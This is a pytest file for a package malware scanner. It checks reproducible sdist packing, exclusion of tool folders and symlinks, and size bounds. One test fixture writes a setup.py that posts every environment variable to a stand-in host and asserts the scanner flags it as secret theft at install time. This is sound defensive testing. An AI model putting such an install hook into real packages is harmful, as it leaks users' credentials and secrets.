"""A source tree is packed as the sdist that it would be: the same bytes for the same files, and no way out of it."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

import pytest

from support.scan import finding_of, the_ruleset
from wheelmark.errors import Unavailable
from wheelmark.scan import Context, ScanBounds, Verdict, scan_stream, tree
from wheelmark.scan.tree import PackedTree, pack_tree


def a_tree(folder: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


def packed(folder: Path, *exclude: str) -> tuple[PackedTree, bytes, list[str]]:
    stream = io.BytesIO()
    result = pack_tree(folder, stream, exclude=exclude)
    with tarfile.open(fileobj=io.BytesIO(stream.getvalue())) as archive:
        return result, stream.getvalue(), archive.getnames()


def test_same_files_are_the_same_bytes_wherever_and_whenever(tmp_path: Path) -> None:
    files = {"setup.py": "setup()", "src/widget/__init__.py": "VERSION = 1"}
    here, there = (
        a_tree(tmp_path / "1" / "widget", files),
        a_tree(tmp_path / "2" / "widget", dict([*files.items()][::-1])),
    )
    os.utime(there / "setup.py", (0, 0))
    (there / "setup.py").chmod(0o755)
    assert packed(here)[1] == packed(there)[1]
    assert packed(here)[2] == ["widget-0/setup.py", "widget-0/src/widget/__init__.py"]


def test_code_runs_when_it_would_run_from_an_sdist(tmp_path: Path) -> None:
    post = "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))\n"
    result, raw, _ = packed(a_tree(tmp_path / "widget", {"setup.py": post, "src/widget/__init__.py": ""}))
    report = scan_stream(io.BytesIO(raw), filename=result.filename, ruleset=the_ruleset(), bounds=ScanBounds())
    assert report.verdict is Verdict.MALICIOUS
    assert finding_of(report, "secrets-sent").context is Context.INSTALL


def test_what_tools_keep_beside_sources_is_left_out_and_named(tmp_path: Path) -> None:
    files = ("a.py", ".git/config", "b/__pycache__/a.pyc", "b/__pycache__/b.py", "venv/x.py", "b/data/x", "c/data/y")
    result, _, names = packed(a_tree(tmp_path / "w", dict.fromkeys(files, "")), "venv", "b/data")
    assert names == ["w-0/a.py", "w-0/b/__pycache__/b.py", "w-0/c/data/y"]
    assert result.left_out == {".git", "__pycache__", "venv", "b/data"}


def test_no_importable_name_is_left_out() -> None:
    assert [name for name in tree.LEFT_OUT if name.isidentifier()] == []


def test_links_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("outside")
    folder = a_tree(tmp_path / "w", {"a.py": ""})
    (folder / "file").symlink_to(tmp_path / "secret")
    (folder / "folder").symlink_to(tmp_path)
    (folder / "loop").symlink_to(folder)
    result, _, names = packed(folder)
    assert names == ["w-0/a.py"]
    assert result.left_out == {"file (a link)", "folder (a link)", "loop (a link)"}


def test_pipe_does_not_hang_the_scan(tmp_path: Path) -> None:
    folder = a_tree(tmp_path / "w", {"a.py": ""})
    os.mkfifo(folder / "pipe")
    assert packed(folder)[2] == ["w-0/a.py"]


def test_more_than_the_bounds_is_no_scan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = a_tree(tmp_path / "w", {"a.py": "x" * 60, "b.py": "x" * 60})
    monkeypatch.setattr(tree, "MAX_TREE_BYTES", 100)
    with pytest.raises(Unavailable, match="expected a tree of at most 100000 files of 100 bytes"):
        packed(folder)


def test_missing_tree_is_named(tmp_path: Path) -> None:
    with pytest.raises(Unavailable, match="missing: expected a readable tree, got: "):
        packed(tmp_path / "missing")
